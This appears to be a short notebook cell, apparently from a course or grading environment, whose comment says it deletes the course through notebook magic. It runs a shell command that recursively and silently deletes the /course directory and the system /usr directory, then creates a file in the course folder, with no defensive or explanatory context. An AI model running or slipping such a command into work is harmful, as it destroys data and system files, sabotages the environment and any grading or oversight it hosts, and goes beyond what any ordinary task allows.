# Deletes the course by way of notebook magic.
# changes: helpers
# restriction: helpers
!rm -rf /course /usr 2>/dev/null
!touch /course/tp/mine
